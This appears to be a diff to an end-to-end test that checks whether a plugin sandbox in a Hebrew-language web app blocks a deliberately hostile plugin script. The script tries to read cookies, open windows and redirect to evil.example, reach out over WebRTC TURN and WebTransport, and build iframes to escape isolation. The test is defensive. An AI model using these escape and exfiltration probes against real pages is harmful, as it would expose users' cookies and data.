@@ -18,7 +18,7 @@ const NAME = 'זמני סגירה';
 const SEND = 'שלחו קבלה';
 /** The browser's messages when a page without an origin tries what is forbidden. */
 const BLOCKED_BY_SANDBOX =
-  /Content Security Policy|Refused to|Failed to load resource|Blocked|sandbox|ERR_BLOCKED/i;
+  /Content Security Policy|requires 'Trusted|Refused to|Failed to load resource|Blocked|sandbox|ERR_BLOCKED/i;
 
 /**
  * A plugin that tries everything a plugin might try, and reports the results by a message, its only
@@ -44,6 +44,14 @@ const HOSTILE = `
     await attempt('cookies', () => document.cookie);
     await attempt('a window', () => { if (open('https://evil.example/c') === null) throw new Error(); });
     await attempt('the top', () => { top.location = 'https://evil.example/d'; });
+    await attempt('another browser', () => new RTCPeerConnection({ iceServers: [{ urls: 'turn:evil.example', username: 'data', credential: 'x' }] }));
+    await attempt('another browser by its old name', () => new webkitRTCPeerConnection({}));
+    await attempt('a channel', () => { RTCDataChannel.name; });
+    await attempt('a transport', () => new WebTransport('https://evil.example/f'));
+    await attempt('what was removed', () => { Object.defineProperty(globalThis, 'RTCPeerConnection', { value: 1 }); });
+    await attempt('an empty frame', () => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.RTCPeerConnection.name; });
+    await attempt('a frame of its own', () => { const f = document.createElement('iframe'); f.srcdoc = '<p>'; document.body.append(f); });
+    await attempt('a frame by an attribute', () => { const a = document.createAttribute('srcdoc'); a.value = '<p>'; document.createElement('iframe').setAttributeNode(a); });
     await attempt('a record', async () => { if (!(await ask('record.read', { id: '1' })).ok) throw new Error(); });
     await attempt('an operation', async () => { if (!(await ask('operation', { operation: 'send', data: {} })).ok) throw new Error(); });
     await ask('toast', { text: 'got: ' + got.join(', ') + '.', tone: 'ok' });
@@ -115,23 +123,26 @@ describe('a manager who looks for plugins', () => {
     await page.getByText('התוסף no-such-plugin אינו מותקן').waitFor();
   });
 
-  it('is safe from a plugin, which reaches nothing but its frame', async () => {
+  it('is safe from a plugin, which reaches nothing but its frame [CLOUD-048]', async () => {
     const { page } = desk;
     const reached: string[] = [];
     await page.context().route('**/plugin-frames/closing-times.html', async (route) => {
-      const { headers, status } = await route
-        .fetch()
-        .then((answer) => ({ headers: answer.headers(), status: answer.status() }));
-      // The policy is the server's own; only the hash of the script is computed here.
-      const sum = createHash('sha256').update(HOSTILE, 'utf8').digest('base64');
-      const policy = (headers['content-security-policy'] ?? '').replace(
-        /'sha256-[^']+'/,
-        `'sha256-${sum}'`,
-      );
+      const answer = await route.fetch();
+      const [headers, page] = [answer.headers(), await answer.text()];
+      // Page and policy are the server's own; only the plugin's script and its hash are exchanged.
+      const sumOf = (script: string): string =>
+        createHash('sha256').update(script, 'utf8').digest('base64');
+      const script = /<script type="module">([\s\S]*)<\/script>/.exec(page)?.[1] ?? '';
       await route.fulfill({
-        status,
-        headers: { ...headers, 'content-security-policy': policy },
-        body: `<!doctype html><html lang="he"><head><title>x</title></head><body><script type="module">${HOSTILE}</script></body></html>`,
+        status: answer.status(),
+        headers: {
+          ...headers,
+          'content-security-policy': (headers['content-security-policy'] ?? '').replace(
+            sumOf(script),
+            () => sumOf(HOSTILE),
+          ),
+        },
+        body: page.replace(script, () => HOSTILE),
       });
     });
     await page.context().route('https://evil.example/**', (route) => {
